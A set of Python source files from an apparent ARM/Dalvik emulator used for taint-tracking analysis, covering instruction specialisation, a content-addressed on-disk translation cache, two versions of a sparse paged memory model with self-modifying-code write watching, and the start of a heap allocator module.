                cpu.flag_n = bool(result & SIGN)
                cpu.flag_z = result == 0
            return test_imm

        def test_reg() -> None:
            result = (regs[rn] ^ get2()) if exclusive else (regs[rn] & get2())
            cpu.flag_n = bool(result & SIGN)
            cpu.flag_z = result == 0
        return test_reg
    return None


# -- loads and stores --------------------------------------------------------

def _specialise_load_store(ir: isa.LoadStore, pc: int, thumb: bool,
                           cpu: CpuState,
                           memory: Memory) -> Optional[MicroOp]:
    if ir.writeback or not ir.pre_indexed:
        return None  # writeback/post-index: fall back
    regs = cpu.regs
    rd, rn = ir.rd, ir.rn
    if not ir.load and rd == PC:
        return None  # STR pc needs the pipelined value: fall back

    # Address expression.
    if ir.offset_rm is not None:
        if ir.offset_rm == PC or rn == PC:
            return None
        rm = ir.offset_rm
        if ir.shift_type != ShiftType.LSL:
            return None
        shift = ir.shift_imm
        if ir.add:
            def get_address() -> int:
                return (regs[rn] + ((regs[rm] << shift) & M32)) & M32
        else:
            def get_address() -> int:
                return (regs[rn] - ((regs[rm] << shift) & M32)) & M32
    else:
        offset = ir.offset_imm or 0
        if not ir.add:
            offset = -offset
        if rn == PC:
            # Literal-pool access: the address is a translation-time
            # constant (the word-aligned pipelined PC plus offset).
            literal = ((_pipelined_pc(pc, thumb) & ~3) + offset) & M32

            def get_address() -> int:
                return literal
        else:
            def get_address() -> int:
                return (regs[rn] + offset) & M32

    if ir.load:
        if ir.size == 4:
            read_u32 = memory.read_u32

            def ldr() -> None:
                regs[rd] = read_u32(get_address())
            return ldr
        if ir.size == 2:
            read_u16 = memory.read_u16
            if ir.signed:
                def ldrsh() -> None:
                    value = read_u16(get_address())
                    regs[rd] = value | 0xFFFF_0000 if value & 0x8000 \
                        else value
                return ldrsh

            def ldrh() -> None:
                regs[rd] = read_u16(get_address())
            return ldrh
        read_u8 = memory.read_u8
        if ir.signed:
            def ldrsb() -> None:
                value = read_u8(get_address())
                regs[rd] = value | 0xFFFF_FF00 if value & 0x80 else value
            return ldrsb

        def ldrb() -> None:
            regs[rd] = read_u8(get_address())
        return ldrb

    if ir.size == 4:
        write_u32 = memory.write_u32

        def strw() -> None:
            write_u32(get_address(), regs[rd])
        return strw
    if ir.size == 2:
        write_u16 = memory.write_u16

        def strh() -> None:
            write_u16(get_address(), regs[rd])
        return strh
    write_u8 = memory.write_u8

    def strb() -> None:
        write_u8(get_address(), regs[rd])
    return strb


def _specialise_load_store_multiple(ir: isa.LoadStoreMultiple,
                                    cpu: CpuState,
                                    memory: Memory) -> Optional[MicroOp]:
    """PUSH/POP and plain LDM/STM with writeback off the stack pointer."""
    regs = cpu.regs
    rn = ir.rn
    reglist = ir.reglist
    count = len(reglist)
    if rn == PC or PC in reglist or count == 0:
        return None
    read_words = memory.read_words
    write_words = memory.write_words

    if ir.increment:
        start_delta = 4 if ir.before else 0
        end_delta = 4 * count
    else:
        start_delta = -4 * count if ir.before else -4 * count + 4
        end_delta = -4 * count

    if ir.load:
        load_in_list = rn in reglist
        writeback = ir.writeback and not load_in_list

        def ldm() -> None:
            address = (regs[rn] + start_delta) & M32
            values = read_words(address, count)
            for register, value in zip(reglist, values):
                regs[register] = value
            if writeback:
                regs[rn] = (regs[rn] + end_delta) & M32

        if ir.writeback and load_in_list:
            # Loaded value wins over writeback (executor semantics).
            def ldm_overlap() -> None:
                address = (regs[rn] + start_delta) & M32
                values = read_words(address, count)
                for register, value in zip(reglist, values):
                    regs[register] = value
            return ldm_overlap
        return ldm

    writeback = ir.writeback

    def stm() -> None:
        base = regs[rn]
        address = (base + start_delta) & M32
        write_words(address, [regs[register] for register in reglist])
        if writeback:
            regs[rn] = (base + end_delta) & M32
    return stm


# -- the rest ----------------------------------------------------------------

def _specialise_move_wide(ir: isa.MoveWide,
                          cpu: CpuState) -> Optional[MicroOp]:
    regs = cpu.regs
    rd = ir.rd
    if ir.top:
        high = (ir.imm16 << 16) & M32

        def movt() -> None:
            regs[rd] = (regs[rd] & 0xFFFF) | high
        return movt
    imm = ir.imm16

    def movw() -> None:
        regs[rd] = imm
    return movw


def _specialise_multiply(ir: isa.Multiply,
                         cpu: CpuState) -> Optional[MicroOp]:
    if ir.set_flags:
        return None
    regs = cpu.regs
    rd, rm, rs, rn = ir.rd, ir.rm, ir.rs, ir.rn
    if PC in (rm, rs) or (ir.accumulate and rn == PC):
        return None
    if ir.accumulate:
        def mla() -> None:
            regs[rd] = (regs[rm] * regs[rs] + regs[rn]) & M32
        return mla

    def mul() -> None:
        regs[rd] = (regs[rm] * regs[rs]) & M32
    return mul


def _specialise_clz(ir: isa.CountLeadingZeros,
                    cpu: CpuState) -> Optional[MicroOp]:
    regs = cpu.regs
    rd, rm = ir.rd, ir.rm
    if rm == PC:
        return None

    def clz() -> None:
        value = regs[rm]
        regs[rd] = 32 if value == 0 else 32 - value.bit_length()
    return clz
