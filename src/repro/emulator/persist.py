"""Persistent cross-job translation-artifact cache.

Translation blocks are Python closures and cannot be pickled, so the
farm persists the *serializable intermediate* instead: decoded op
descriptors (the ISA dataclasses the translator and the single-step
engine both consume), Dalvik superinstruction block starts, and JNI
trampoline call plans.  Each artifact is keyed by a content digest —
``sha256(code bytes, taint-variant)`` for native regions, a canonical
serialization of the bytecode for Dalvik methods, the signature shape
for trampolines — so a library shared by thousands of apps is decoded
and planned once per fleet; every process only *rebinds* closures from
the descriptors on load (cheap) instead of re-translating (expensive).

Cache files live in a content-addressed tree::

    <root>/tb/<d2>/<digest>.json       decode descriptors per code region
    <root>/dalvik/<d2>/<digest>.json   compiled block starts per method
    <root>/jni/<d2>/<digest>.json      trampoline call plan per signature

Writes use the same fsync+rename discipline as ``farm/store.py``
(:func:`atomic_write_json`), so a SIGKILL mid-write leaves either the
old file, no file, or the new complete file — never a torn one — and
loads are tolerant: a missing, truncated, or wrong-digest file reads as
a miss, never an error.  Concurrent writers are safe by construction:
temp names carry the writer's pid and the final rename is atomic, so
the last complete payload wins and both are valid (content-addressed
entries for one digest are interchangeable).
"""

from __future__ import annotations

import dataclasses
import os
import time
from hashlib import sha256
from typing import Any, Dict, List, Optional, Set, Tuple

from repro.cpu import isa
from repro.farm.store import atomic_write_json, read_verified_json

PERSIST_FORMAT = 1

LAYERS = ("tb", "tbc", "jni")

# Directory per artifact kind; the tbc counters live under "tbc" but the
# method files land in "dalvik" (the artifact is per-method, not per-TB).
_LAYER_DIRS = {"tb": "tb", "tbc": "dalvik", "jni": "jni"}

_IR_CLASSES = {
    cls.__name__: cls
    for cls in (
        isa.Instruction, isa.DataProcessing, isa.Multiply,
        isa.MultiplyLong, isa.MoveWide, isa.CountLeadingZeros,
        isa.LoadStore, isa.LoadStoreMultiple, isa.Branch,
        isa.BranchExchange, isa.SoftwareInterrupt, isa.Breakpoint,
        isa.Nop,
    )
}

# Fields holding IntEnum values; everything else round-trips as-is.
_ENUM_FIELDS = {"cond": isa.Cond, "op": isa.Op, "shift_type": isa.ShiftType}


def encode_instruction(ir: isa.Instruction) -> List:
    """One decoded instruction -> ``[class_name, {field: value}]``."""
    values: Dict[str, Any] = {}
    for field in dataclasses.fields(ir):
        value = getattr(ir, field.name)
        if isinstance(value, isa.Operand2):
            value = {"imm": value.imm, "rm": value.rm,
                     "shift_type": int(value.shift_type),
                     "shift_imm": value.shift_imm,
                     "shift_reg": value.shift_reg}
        elif field.name in _ENUM_FIELDS:
            value = int(value)
        elif isinstance(value, tuple):
            value = list(value)
        values[field.name] = value
    return [type(ir).__name__, values]


def decode_instruction(payload: List) -> isa.Instruction:
    """Inverse of :func:`encode_instruction` (raises on malformed data)."""
    name, values = payload
    cls = _IR_CLASSES[name]
    kwargs: Dict[str, Any] = {}
    for key, value in values.items():
        if key == "operand2":
            value = isa.Operand2(
                imm=value["imm"], rm=value["rm"],
                shift_type=isa.ShiftType(value["shift_type"]),
                shift_imm=value["shift_imm"],
                shift_reg=value["shift_reg"])
        elif key in _ENUM_FIELDS:
            value = _ENUM_FIELDS[key](value)
        elif isinstance(value, list):
            value = tuple(value)
        kwargs[key] = value
    return cls(**kwargs)


def content_digest(data: bytes, variant: str = "") -> str:
    """Digest of a code region's bytes plus its taint-variant tag."""
    hasher = sha256(bytes(data))
    if variant:
        hasher.update(b"\x00")
        hasher.update(variant.encode("utf-8"))
    return hasher.hexdigest()


def method_digest(method) -> str:
    """Content digest of a Dalvik method's bytecode.

    Canonical per-instruction serialization plus the frame shape — two
    methods with identical code share block starts regardless of which
    app (or which ``Method`` object) carries them, and two methods that
    differ anywhere can never alias.
    """
    hasher = sha256()
    hasher.update(f"{method.shorty}|{method.registers_size}".encode())
    for ins in method.code:
        hasher.update(repr((ins.op.name, ins.a, ins.b, ins.c,
                            repr(ins.literal), ins.target_index,
                            ins.symbol, tuple(ins.args))).encode())
    return hasher.hexdigest()


def trampoline_digest(method) -> str:
    """Digest of the signature shape a JNI call plan derives from."""
    return content_digest(
        f"{method.shorty}|{int(method.is_static)}".encode())


class TranslationPersistence:
    """The process-wide handle on one on-disk translation cache.

    Holds a per-digest in-memory tier (descriptors decode from JSON once
    per process; re-seeding after an ``invalidate_cache`` is a dict
    walk), dirty sets flushed with atomic writes at job boundaries, and
    the ``{hits, misses, stores, rebind_us}`` counters per layer that
    observability exports as ``emulator.tb.persist.*`` and friends.
    """

    def __init__(self, root: str) -> None:
        self.root = root
        for subdir in set(_LAYER_DIRS.values()):
            os.makedirs(os.path.join(root, subdir), exist_ok=True)
        self.counters: Dict[str, Dict[str, int]] = {
            layer: {"hits": 0, "misses": 0, "stores": 0, "rebind_us": 0}
            for layer in LAYERS}
        # digest -> [(offset, thumb, Instruction), ...]
        self._regions: Dict[str, List[Tuple[int, bool, isa.Instruction]]] = {}
        self._region_keys: Dict[str, Set[Tuple[int, bool]]] = {}
        self._region_dirty: Set[str] = set()
        # digest -> {block start, ...}
        self._methods: Dict[str, Set[int]] = {}
        self._method_dirty: Set[str] = set()
        # digest -> {"arg_refs": [...], "returns_ref": bool}
        self._trampolines: Dict[str, Dict] = {}
        self._trampoline_dirty: Set[str] = set()

    # -- digests (so the engines need no persist import of their own) ------

    region_digest = staticmethod(content_digest)
    method_digest = staticmethod(method_digest)
    trampoline_digest = staticmethod(trampoline_digest)

    def _path(self, layer: str, digest: str) -> str:
        return os.path.join(self.root, _LAYER_DIRS[layer], digest[:2],
                            f"{digest}.json")

    def _write(self, layer: str, digest: str, payload: Dict) -> None:
        path = self._path(layer, digest)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        atomic_write_json(path, payload)

    # -- native decode descriptors (tb layer) ------------------------------

    def load_region(self, digest: str
                    ) -> Optional[List[Tuple[int, bool, isa.Instruction]]]:
        """Descriptors for a region digest, or None on a cache miss."""
        cached = self._regions.get(digest)
        if cached is not None:
            return cached
        data = read_verified_json(self._path("tb", digest), digest)
        if data is None:
            return None
        try:
            entries = [(int(offset), bool(thumb), decode_instruction(ir))
                       for offset, thumb, ir in data.get("entries", [])]
        except (KeyError, TypeError, ValueError):
            return None    # damaged payload reads as a miss
        self._regions[digest] = entries
        self._region_keys[digest] = {(offset, thumb)
                                     for offset, thumb, _ in entries}
        return entries

    def update_region(self, digest: str,
                      entries: List[Tuple[int, bool, isa.Instruction]]
                      ) -> int:
        """Merge freshly decoded descriptors; returns how many were new."""
        self.load_region(digest)    # merge with the on-disk set, if any
        known = self._region_keys.setdefault(digest, set())
        stored = self._regions.setdefault(digest, [])
        fresh = 0
        for offset, thumb, ir in entries:
            key = (offset, thumb)
            if key in known:
                continue
            known.add(key)
            stored.append((offset, thumb, ir))
            fresh += 1
        if fresh:
            self._region_dirty.add(digest)
            self.counters["tb"]["stores"] += fresh
        return fresh

    # -- Dalvik block starts (tbc layer) -----------------------------------

    def load_method_starts(self, digest: str) -> Optional[Set[int]]:
        starts = self._methods.get(digest)
        if starts is not None:
            return starts
        data = read_verified_json(self._path("tbc", digest), digest)
        if data is None:
            return None
        try:
            starts = {int(start) for start in data.get("starts", [])}
        except (TypeError, ValueError):
            return None
        self._methods[digest] = starts
        return starts

    def update_method_starts(self, digest: str, starts) -> int:
        self.load_method_starts(digest)
        known = self._methods.setdefault(digest, set())
        fresh = {int(start) for start in starts} - known
        if fresh:
            known.update(fresh)
            self._method_dirty.add(digest)
            self.counters["tbc"]["stores"] += len(fresh)
        return len(fresh)

    # -- JNI trampoline plans (jni layer) ----------------------------------

    def load_trampoline(self, digest: str) -> Optional[Dict]:
        plan = self._trampolines.get(digest)
        if plan is not None:
            return plan
        data = read_verified_json(self._path("jni", digest), digest)
        if data is None:
            return None
        plan = data.get("plan")
        if not isinstance(plan, dict) or "arg_refs" not in plan:
            return None
        self._trampolines[digest] = plan
        return plan

    def record_trampoline(self, digest: str, plan: Dict) -> None:
        if digest in self._trampolines:
            return
        self._trampolines[digest] = plan
        self._trampoline_dirty.add(digest)
        self.counters["jni"]["stores"] += 1

    # -- commit ------------------------------------------------------------

    def flush(self) -> Dict[str, int]:
        """Write every dirty artifact with the fsync+rename discipline."""
        written = {layer: 0 for layer in LAYERS}
        for digest in sorted(self._region_dirty):
            entries = self._regions.get(digest, [])
            self._write("tb", digest, {
                "digest": digest, "format": PERSIST_FORMAT,
                "entries": [[offset, thumb, encode_instruction(ir)]
                            for offset, thumb, ir in entries]})
            written["tb"] += 1
        self._region_dirty.clear()
        for digest in sorted(self._method_dirty):
            self._write("tbc", digest, {
                "digest": digest, "format": PERSIST_FORMAT,
                "starts": sorted(self._methods.get(digest, ()))})
            written["tbc"] += 1
        self._method_dirty.clear()
        for digest in sorted(self._trampoline_dirty):
            self._write("jni", digest, {
                "digest": digest, "format": PERSIST_FORMAT,
                "plan": self._trampolines[digest]})
            written["jni"] += 1
        self._trampoline_dirty.clear()
        return written

    # -- accounting --------------------------------------------------------

    def hit(self, layer: str, count: int = 1) -> None:
        self.counters[layer]["hits"] += count

    def miss(self, layer: str, count: int = 1) -> None:
        self.counters[layer]["misses"] += count

    def rebound(self, layer: str, started: float) -> None:
        """Credit rebind wall time (µs) since ``started`` to ``layer``."""
        elapsed = time.perf_counter() - started
        self.counters[layer]["rebind_us"] += int(elapsed * 1_000_000)

    def counter_items(self):
        """``(name, value)`` pairs, named for the metrics registry."""
        for layer in LAYERS:
            for key, value in self.counters[layer].items():
                yield f"{layer}.persist.{key}", value
