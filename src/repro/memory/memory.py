"""Sparse byte-addressable memory with little-endian word accessors.

The store is page-based (4 KiB pages in a dict) so a 4 GiB address space
costs nothing until touched.  All multi-byte accessors are little-endian,
matching ARM's default data endianness on Android.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

from repro.common.errors import MemoryError_

PAGE_SHIFT = 12
PAGE_SIZE = 1 << PAGE_SHIFT
PAGE_MASK = PAGE_SIZE - 1
ADDRESS_MASK = 0xFFFF_FFFF


class Memory:
    """A sparse 32-bit address space.

    By default reads of never-written bytes return zero (like zero-fill
    pages).  With ``strict=True``, reading an untouched page raises
    :class:`MemoryError_`, which catches wild pointers in tests.
    """

    def __init__(self, strict: bool = False) -> None:
        self._pages: Dict[int, bytearray] = {}
        self.strict = strict

    # -- page plumbing ----------------------------------------------------

    def _page_for_read(self, address: int) -> Optional[bytearray]:
        page = self._pages.get(address >> PAGE_SHIFT)
        if page is None and self.strict:
            raise MemoryError_(address, "read of unmapped page")
        return page

    def _page_for_write(self, address: int) -> bytearray:
        index = address >> PAGE_SHIFT
        page = self._pages.get(index)
        if page is None:
            page = bytearray(PAGE_SIZE)
            self._pages[index] = page
        return page

    def touched_pages(self) -> int:
        """Number of pages ever written (used by memory-pressure tests)."""
        return len(self._pages)

    # -- byte access ------------------------------------------------------

    def read_u8(self, address: int) -> int:
        address &= ADDRESS_MASK
        page = self._page_for_read(address)
        if page is None:
            return 0
        return page[address & PAGE_MASK]

    def write_u8(self, address: int, value: int) -> None:
        address &= ADDRESS_MASK
        self._page_for_write(address)[address & PAGE_MASK] = value & 0xFF

    # -- halfword/word access (little-endian) ------------------------------

    def read_u16(self, address: int) -> int:
        return self.read_u8(address) | (self.read_u8(address + 1) << 8)

    def write_u16(self, address: int, value: int) -> None:
        self.write_u8(address, value)
        self.write_u8(address + 1, value >> 8)

    def read_u32(self, address: int) -> int:
        return self.read_u16(address) | (self.read_u16(address + 2) << 16)

    def write_u32(self, address: int, value: int) -> None:
        self.write_u16(address, value)
        self.write_u16(address + 2, value >> 16)

    def read_i32(self, address: int) -> int:
        value = self.read_u32(address)
        return value - 0x1_0000_0000 if value & 0x8000_0000 else value

    def write_i32(self, address: int, value: int) -> None:
        self.write_u32(address, value & 0xFFFF_FFFF)

    def read_u64(self, address: int) -> int:
        return self.read_u32(address) | (self.read_u32(address + 4) << 32)

    def write_u64(self, address: int, value: int) -> None:
        self.write_u32(address, value & 0xFFFF_FFFF)
        self.write_u32(address + 4, (value >> 32) & 0xFFFF_FFFF)

    # -- bulk access -------------------------------------------------------

    def read_bytes(self, address: int, length: int) -> bytes:
        return bytes(self.read_u8(address + i) for i in range(length))

    def write_bytes(self, address: int, data: Iterable[int]) -> None:
        for offset, byte in enumerate(bytes(data)):
            self.write_u8(address + offset, byte)

    def read_cstring(self, address: int, limit: int = 1 << 16) -> bytes:
        """Read a NUL-terminated C string (without the terminator)."""
        out = bytearray()
        for offset in range(limit):
            byte = self.read_u8(address + offset)
            if byte == 0:
                return bytes(out)
            out.append(byte)
        raise MemoryError_(address, f"unterminated C string (>{limit} bytes)")

    def write_cstring(self, address: int, text: str) -> int:
        """Write ``text`` as UTF-8 plus a NUL terminator; return byte count."""
        data = text.encode("utf-8") + b"\x00"
        self.write_bytes(address, data)
        return len(data)

    def fill(self, address: int, length: int, value: int = 0) -> None:
        for offset in range(length):
            self.write_u8(address + offset, value)

    def copy(self, dest: int, src: int, length: int) -> None:
        """memmove semantics: correct even for overlapping ranges."""
        data = self.read_bytes(src, length)
        self.write_bytes(dest, data)

    # -- word lists (for LDM/STM and stack dumps) ---------------------------

    def read_words(self, address: int, count: int) -> List[int]:
        return [self.read_u32(address + 4 * i) for i in range(count)]

    def write_words(self, address: int, words: Iterable[int]) -> None:
        for index, word in enumerate(words):
            self.write_u32(address + 4 * index, word)

    def snapshot_range(self, address: int, length: int) -> Tuple[int, bytes]:
        """Capture (address, bytes) for later comparison in tests."""
        return address, self.read_bytes(address, length)
