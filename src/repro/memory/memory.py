"""Sparse byte-addressable memory with little-endian word accessors.

The store is page-based (4 KiB pages in a dict) so a 4 GiB address space
costs nothing until touched.  All multi-byte accessors are little-endian,
matching ARM's default data endianness on Android.

Accessors that stay within one page operate directly on the page's
``bytearray`` slice (``int.from_bytes`` / slice assignment) instead of
looping byte-at-a-time; only accesses that straddle a page boundary fall
back to the split path.  This is the data side of the translation-block
engine's fast path: LDM/STM, ``memcpy``-style bulk moves and C-string
scans all collapse to a handful of slice operations.

Code pages can be *watched* (:meth:`watch_page`): a write that touches a
watched page invokes the registered callback with the page index, which
is how the emulator invalidates translated code when a self-modifying
write lands on it.
"""

from __future__ import annotations

from typing import Callable, Dict, Iterable, List, Optional, Set, Tuple

from repro.common.errors import MemoryError_

PAGE_SHIFT = 12
PAGE_SIZE = 1 << PAGE_SHIFT
PAGE_MASK = PAGE_SIZE - 1
ADDRESS_MASK = 0xFFFF_FFFF

_ZERO_PAGE = bytes(PAGE_SIZE)


class Memory:
    """A sparse 32-bit address space.

    By default reads of never-written bytes return zero (like zero-fill
    pages).  With ``strict=True``, reading an untouched page raises
    :class:`MemoryError_`, which catches wild pointers in tests.
    """

    def __init__(self, strict: bool = False) -> None:
        self._pages: Dict[int, bytearray] = {}
        self.strict = strict
        # Write-watch surface for translated code (see module docstring).
        self._watched_pages: Set[int] = set()
        self._write_watcher: Optional[Callable[[int], None]] = None

    # -- page plumbing ----------------------------------------------------

    def _page_for_read(self, address: int) -> Optional[bytearray]:
        page = self._pages.get(address >> PAGE_SHIFT)
        if page is None and self.strict:
            raise MemoryError_(address, "read of unmapped page")
        return page

    def _page_for_write(self, address: int) -> bytearray:
        index = address >> PAGE_SHIFT
        page = self._pages.get(index)
        if page is None:
            page = bytearray(PAGE_SIZE)
            self._pages[index] = page
        return page

    def touched_pages(self) -> int:
        """Number of pages ever written (used by memory-pressure tests)."""
        return len(self._pages)

    # -- code-page write watching -------------------------------------------

    def set_write_watcher(
            self,
            watcher: Optional[Callable[[int, int, int], None]]) -> None:
        """Install the single write-watch callback.

        The watcher receives ``(page_index, start_offset, end_offset)``
        for every write chunk landing on a watched page, so the consumer
        can ignore writes to data that merely shares a page with code
        (literal pools, ``.space`` buffers).
        """
        self._write_watcher = watcher
        if watcher is None:
            self._watched_pages.clear()

    def watch_page(self, index: int) -> None:
        self._watched_pages.add(index)

    def unwatch_page(self, index: int) -> None:
        self._watched_pages.discard(index)

    def _notify_write(self, index: int, start: int, end: int) -> None:
        if self._write_watcher is not None:
            self._write_watcher(index, start, end)

    # -- byte access ------------------------------------------------------

    def read_u8(self, address: int) -> int:
        address &= ADDRESS_MASK
        page = self._pages.get(address >> PAGE_SHIFT)
        if page is None:
            if self.strict:
                raise MemoryError_(address, "read of unmapped page")
            return 0
        return page[address & PAGE_MASK]

    def write_u8(self, address: int, value: int) -> None:
        address &= ADDRESS_MASK
        index = address >> PAGE_SHIFT
        page = self._pages.get(index)
        if page is None:
            page = bytearray(PAGE_SIZE)
            self._pages[index] = page
        offset = address & PAGE_MASK
        page[offset] = value & 0xFF
        if index in self._watched_pages:
            self._notify_write(index, offset, offset + 1)

    # -- halfword/word access (little-endian) ------------------------------

    def read_u16(self, address: int) -> int:
        address &= ADDRESS_MASK
        offset = address & PAGE_MASK
        if offset <= PAGE_SIZE - 2:
            page = self._pages.get(address >> PAGE_SHIFT)
            if page is None:
                if self.strict:
                    raise MemoryError_(address, "read of unmapped page")
                return 0
            return page[offset] | (page[offset + 1] << 8)
        return self.read_u8(address) | (self.read_u8(address + 1) << 8)

    def write_u16(self, address: int, value: int) -> None:
        address &= ADDRESS_MASK
        offset = address & PAGE_MASK
        if offset <= PAGE_SIZE - 2:
            index = address >> PAGE_SHIFT
            page = self._pages.get(index)
            if page is None:
                page = bytearray(PAGE_SIZE)
                self._pages[index] = page
            page[offset] = value & 0xFF
            page[offset + 1] = (value >> 8) & 0xFF
            if index in self._watched_pages:
                self._notify_write(index, offset, offset + 2)
            return
        self.write_u8(address, value)
        self.write_u8(address + 1, value >> 8)

    def read_u32(self, address: int) -> int:
        address &= ADDRESS_MASK
        offset = address & PAGE_MASK
        if offset <= PAGE_SIZE - 4:
            page = self._pages.get(address >> PAGE_SHIFT)
            if page is None:
                if self.strict:
                    raise MemoryError_(address, "read of unmapped page")
                return 0
            return int.from_bytes(page[offset:offset + 4], "little")
        return self.read_u16(address) | (self.read_u16(address + 2) << 16)

    def write_u32(self, address: int, value: int) -> None:
        address &= ADDRESS_MASK
        offset = address & PAGE_MASK
        if offset <= PAGE_SIZE - 4:
            index = address >> PAGE_SHIFT
            page = self._pages.get(index)
            if page is None:
                page = bytearray(PAGE_SIZE)
                self._pages[index] = page
            page[offset:offset + 4] = (value & 0xFFFF_FFFF).to_bytes(
                4, "little")
            if index in self._watched_pages:
                self._notify_write(index, offset, offset + 4)
            return
        self.write_u16(address, value)
        self.write_u16(address + 2, value >> 16)

    def write_u32x2(self, address: int, first: int, second: int) -> None:
        """Write two adjacent u32 words in one page operation.

        This is the TaintDroid slot shape — a 4-byte value immediately
        followed by its 4-byte taint tag — so the Dalvik fast paths
        (frame writes, compiled superinstruction blocks) pay one page
        lookup per slot instead of two.
        """
        address &= ADDRESS_MASK
        offset = address & PAGE_MASK
        if offset <= PAGE_SIZE - 8:
            index = address >> PAGE_SHIFT
            page = self._pages.get(index)
            if page is None:
                page = bytearray(PAGE_SIZE)
                self._pages[index] = page
            page[offset:offset + 8] = \
                (first & 0xFFFF_FFFF).to_bytes(4, "little") + \
                (second & 0xFFFF_FFFF).to_bytes(4, "little")
            if index in self._watched_pages:
                self._notify_write(index, offset, offset + 8)
            return
        self.write_u32(address, first)
        self.write_u32(address + 4, second)

    def read_i32(self, address: int) -> int:
        value = self.read_u32(address)
        return value - 0x1_0000_0000 if value & 0x8000_0000 else value

    def write_i32(self, address: int, value: int) -> None:
        self.write_u32(address, value & 0xFFFF_FFFF)

    def read_u64(self, address: int) -> int:
        return self.read_u32(address) | (self.read_u32(address + 4) << 32)

    def write_u64(self, address: int, value: int) -> None:
        self.write_u32(address, value & 0xFFFF_FFFF)
        self.write_u32(address + 4, (value >> 32) & 0xFFFF_FFFF)

    # -- bulk access -------------------------------------------------------

    def read_bytes(self, address: int, length: int) -> bytes:
        address &= ADDRESS_MASK
        if length <= 0:
            return b""
        chunks: List[bytes] = []
        remaining = length
        while remaining > 0:
            offset = address & PAGE_MASK
            chunk = min(remaining, PAGE_SIZE - offset)
            page = self._pages.get(address >> PAGE_SHIFT)
            if page is None:
                if self.strict:
                    raise MemoryError_(address, "read of unmapped page")
                chunks.append(_ZERO_PAGE[:chunk])
            else:
                chunks.append(bytes(page[offset:offset + chunk]))
            address = (address + chunk) & ADDRESS_MASK
            remaining -= chunk
        return b"".join(chunks)

    def write_bytes(self, address: int, data: Iterable[int]) -> None:
        address &= ADDRESS_MASK
        blob = bytes(data)
        position = 0
        remaining = len(blob)
        while remaining > 0:
            offset = address & PAGE_MASK
            chunk = min(remaining, PAGE_SIZE - offset)
            index = address >> PAGE_SHIFT
            page = self._pages.get(index)
            if page is None:
                page = bytearray(PAGE_SIZE)
                self._pages[index] = page
            page[offset:offset + chunk] = blob[position:position + chunk]
            if index in self._watched_pages:
                self._notify_write(index, offset, offset + chunk)
            address = (address + chunk) & ADDRESS_MASK
            position += chunk
            remaining -= chunk

    def read_cstring(self, address: int, limit: int = 1 << 16) -> bytes:
        """Read a NUL-terminated C string (without the terminator).

        Scans whole page slices with ``bytearray.index(0)`` rather than
        issuing one ``read_u8`` per byte — this path is hot in the libc
        string hooks (``strcpy``/``strlen``/format strings).

        Boundary semantics (pinned by ``tests/memory/test_memory.py``):

        * a string may span any number of page boundaries — the scan
          continues across mapped pages until it finds a NUL;
        * an **unmapped page** behaves exactly like every other read
          path: in default (non-strict) memory its bytes read as zero,
          so the first unmapped byte terminates the string and the bytes
          read so far are returned; in ``strict`` memory the scan raises
          :class:`MemoryError_` at the first unmapped address instead;
        * if no NUL occurs within ``limit`` bytes the scan raises
          :class:`MemoryError_` identifying the *start* of the string.
          A terminator exactly at index ``limit - 1`` still succeeds
          (returning ``limit - 1`` bytes); one at index ``limit`` is
          past the window and raises.
        """
        start = address & ADDRESS_MASK
        address = start
        out = bytearray()
        remaining = limit
        while remaining > 0:
            offset = address & PAGE_MASK
            chunk = min(remaining, PAGE_SIZE - offset)
            page = self._pages.get(address >> PAGE_SHIFT)
            if page is None:
                if self.strict:
                    raise MemoryError_(address, "read of unmapped page")
                return bytes(out)  # zero-fill page: immediate terminator
            try:
                nul = page.index(0, offset, offset + chunk)
            except ValueError:
                out += page[offset:offset + chunk]
                address = (address + chunk) & ADDRESS_MASK
                remaining -= chunk
                continue
            out += page[offset:nul]
            return bytes(out)
        raise MemoryError_(start, f"unterminated C string (>{limit} bytes)")

    def write_cstring(self, address: int, text: str) -> int:
        """Write ``text`` as UTF-8 plus a NUL terminator; return byte count."""
        data = text.encode("utf-8") + b"\x00"
        self.write_bytes(address, data)
        return len(data)

    def fill(self, address: int, length: int, value: int = 0) -> None:
        address &= ADDRESS_MASK
        remaining = length
        byte = value & 0xFF
        while remaining > 0:
            offset = address & PAGE_MASK
            chunk = min(remaining, PAGE_SIZE - offset)
            index = address >> PAGE_SHIFT
            page = self._pages.get(index)
            if page is None:
                page = bytearray(PAGE_SIZE)
                self._pages[index] = page
            page[offset:offset + chunk] = bytes([byte]) * chunk
            if index in self._watched_pages:
                self._notify_write(index, offset, offset + chunk)
            address = (address + chunk) & ADDRESS_MASK
            remaining -= chunk

    def copy(self, dest: int, src: int, length: int) -> None:
        """memmove semantics: correct even for overlapping ranges."""
        data = self.read_bytes(src, length)
        self.write_bytes(dest, data)

    # -- word lists (for LDM/STM and stack dumps) ---------------------------

    def read_words(self, address: int, count: int) -> List[int]:
        address &= ADDRESS_MASK
        offset = address & PAGE_MASK
        if count > 0 and offset <= PAGE_SIZE - 4 * count:
            page = self._pages.get(address >> PAGE_SHIFT)
            if page is None:
                if self.strict:
                    raise MemoryError_(address, "read of unmapped page")
                return [0] * count
            raw = page[offset:offset + 4 * count]
            return [int.from_bytes(raw[i:i + 4], "little")
                    for i in range(0, 4 * count, 4)]
        return [self.read_u32(address + 4 * i) for i in range(count)]

    def write_words(self, address: int, words: Iterable[int]) -> None:
        values = list(words)
        address &= ADDRESS_MASK
        offset = address & PAGE_MASK
        if values and offset <= PAGE_SIZE - 4 * len(values):
            blob = b"".join((v & 0xFFFF_FFFF).to_bytes(4, "little")
                            for v in values)
            index = address >> PAGE_SHIFT
            page = self._pages.get(index)
            if page is None:
                page = bytearray(PAGE_SIZE)
                self._pages[index] = page
            page[offset:offset + len(blob)] = blob
            if index in self._watched_pages:
                self._notify_write(index, offset, offset + len(blob))
            return
        for i, word in enumerate(values):
            self.write_u32(address + 4 * i, word)

    def snapshot_range(self, address: int, length: int) -> Tuple[int, bytes]:
        """Capture (address, bytes) for later comparison in tests."""
        return address, self.read_bytes(address, length)
