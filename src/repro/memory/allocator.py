"""Heap allocators backing ``malloc``/``free`` in the modelled libc.

Two allocators are provided:

* :class:`BumpAllocator` — trivially fast, never reuses memory.  Used for
  code/data placement at load time.
* :class:`FreeListAllocator` — a first-fit free-list allocator with
  coalescing, used as the native heap so that ``malloc``/``free``/``realloc``
  behave realistically (reuse means stale taint must be cleared, which the
  taint engine tests exercise).
"""

from __future__ import annotations

from dataclasses import dataclass
